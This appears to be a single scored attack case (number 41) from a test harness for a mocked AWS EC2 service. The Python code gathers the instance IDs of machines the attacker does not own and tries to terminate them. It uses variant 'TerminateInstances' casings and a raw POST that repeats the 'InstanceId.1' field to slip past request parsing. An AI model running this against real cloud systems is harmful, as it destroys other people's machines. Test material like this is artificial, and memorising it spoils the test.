# attack: 41
# does: works, then ends machines of others, each id in a field that is there twice, or in letters that moto reads alone
# run: finished
# earns: 10
# prints: MalformedQueryString
# prints: InvalidAction
# with: work
# with: http
mine = work()
others = [
    instance["InstanceId"]
    for launch in boto3.client("ec2").describe_instances()["Reservations"]
    for instance in launch["Instances"]
    if instance["InstanceId"] not in mine
]
for action in ("terminateInstances", "terminate_instances", "Terminateinstances"):
    print(form(action, **{f"InstanceId.{number}": id for number, id in enumerate(others, 1)}))
body = "&".join(["Action=TerminateInstances&Version=2016-11-15", *(f"InstanceId.1={id}" for id in others), "InstanceId.1=" + mine[0]])
kind = "application/x-www-form-urlencoded; charset=utf-8"
print(raw("POST", "/", body.encode(), service="ec2", Content_Type=kind))
